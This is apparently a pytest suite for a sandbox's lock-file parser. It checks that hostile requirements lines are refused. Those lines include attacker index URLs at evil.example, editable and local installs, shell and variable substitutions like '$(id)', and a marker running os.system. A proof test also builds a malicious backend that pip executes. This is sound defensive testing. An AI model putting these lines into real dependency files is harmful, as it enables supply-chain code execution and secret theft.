"""Hostile lock files: whatever would make an installer fetch or run something else is refused, all of it at once."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from pilotbase.documents.errors import InputError
from pilotbase.sandbox.box.environments import build_environment
from pilotbase.sandbox.box.locks import parse_lock

HASH = "--hash=sha256:" + "a" * 64

HOSTILE = {
    "--index-url https://evil.example/simple": "environment.lock.option",
    "--extra-index-url=https://evil.example/simple": "environment.lock.option",
    "-i https://evil.example/simple": "environment.lock.option",
    "--find-links ./wheels": "environment.lock.option",
    "--trusted-host evil.example": "environment.lock.option",
    "--no-binary :all:": "environment.lock.option",
    "--pre": "environment.lock.option",
    "-e .": "environment.lock.option",
    "--editable=./evil": "environment.lock.option",
    "-r other.txt": "environment.lock.option",
    "-c constraints.txt": "environment.lock.option",
    f"evil==1.0 --config-settings=x=y {HASH}": "environment.lock.option",
    f"evil==1.0 --global-option=build {HASH}": "environment.lock.option",
    f"evil==1.0 {HASH} -r other.txt": "environment.lock.option",
    "./evil": "environment.lock.reference",
    "/work/evil-1.0.tar.gz": "environment.lock.reference",
    "evil-1.0-py3-none-any.whl": "environment.lock.reference",
    f"evil @ file:///work/evil {HASH}": "environment.lock.reference",
    "file:///work/evil": "environment.lock.reference",
    "git+https://evil.example/evil.git": "environment.lock.reference",
    f"evil @ https://evil.example/evil.whl {HASH}": "environment.lock.reference",
    f"evil=={'$'}{{SECRET}} {HASH}": "environment.lock.variable",
    "${SECRET}": "environment.lock.variable",
    f"evil==$(id) {HASH}": "environment.lock.variable",
    f"evil>=1.0 {HASH}": "environment.lock.unpinned",
    f"evil {HASH}": "environment.lock.unpinned",
    f"evil==1.* {HASH}": "environment.lock.unpinned",
    f"evil===1.0 {HASH}": "environment.lock.unpinned",
    f"evil==1.0,!=1.0 {HASH}": "environment.lock.unpinned",
    f"evil==1.0 other==2.0 {HASH}": "environment.lock.unpinned",
    f"../evil==1.0 {HASH}": "environment.lock.reference",
    f"evil==1.0/../../x {HASH}": "environment.lock.unpinned",
    "evil==1.0": "environment.lock.unhashed",
    "evil==1.0 --hash=md5:" + "a" * 32: "environment.lock.hash",
    "evil==1.0 --hash=sha256:abc": "environment.lock.hash",
    f"evil==1.0 ; extra == 'x' {HASH}": "environment.lock.marker",
    f"evil==1.0 ; __import__('os').system('id') {HASH}": "environment.lock.marker",
    f"evil==1.0 ; {'(' * 5000}python_version >= '3'{')' * 5000} {HASH}": "environment.lock.marker",
}


@pytest.mark.parametrize(("line", "code"), HOSTILE.items())
def test_a_hostile_line_is_refused(line, code):
    with pytest.raises(InputError) as refused:
        parse_lock(line.encode(), "requirements.lock")
    [issue] = refused.value.issues
    assert (issue.problem.code, issue.line) == (code, 1)


def test_every_problem_comes_at_once_with_its_line():
    lock = "# a comment\n" + "\n".join(HOSTILE)
    with pytest.raises(InputError) as refused:
        parse_lock(lock.encode(), "requirements.lock")
    assert [issue.line for issue in refused.value.issues] == list(range(2, 2 + len(HOSTILE)))


def test_a_continued_line_hides_nothing():
    lock = "good==1.0 \\\n    " + HASH + " \\\n    --index-url=https://evil.example\n"
    with pytest.raises(InputError) as refused:
        parse_lock(lock.encode(), "requirements.lock")
    assert refused.value.issues[0].problem.code in ("environment.lock.option", "environment.lock.reference")


@pytest.mark.parametrize("data", [b"\xff\xfe\x00", b"x" * (5 << 20), "evil==1.0\u2028-r other".encode()])
def test_what_is_no_lock_at_all(data):
    with pytest.raises(InputError):
        parse_lock(data, "requirements.lock")


@pytest.mark.prove
def test_an_installer_would_run_such_a_line_and_we_do_not(tmp_path: Path):
    evil = tmp_path / "evil"
    evil.mkdir()
    mark = tmp_path / "mark"
    (evil / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
    )
    (evil / "evil.py").write_text(f"open({str(mark)!r}, 'w').close()\nraise SystemExit('ran')\n")
    lock = tmp_path / "requirements.lock"
    lock.write_text(f"-e {evil}\n")
    pip = [sys.executable, "-m", "pip", "install", "--no-index", "--no-build-isolation", "--no-deps", "--dry-run"]
    with pytest.raises(InputError):
        build_environment(lock.read_bytes(), "requirements.lock", tmp_path / "cache")
    assert not mark.exists()
    subprocess.run(
        [*pip, "-r", str(lock)],
        check=False,
        capture_output=True,
        timeout=120,
        env={**os.environ, "PIP_CONFIG_FILE": os.devnull},
    )
    assert mark.exists(), "the same file, given to pip, runs the supplier's code"
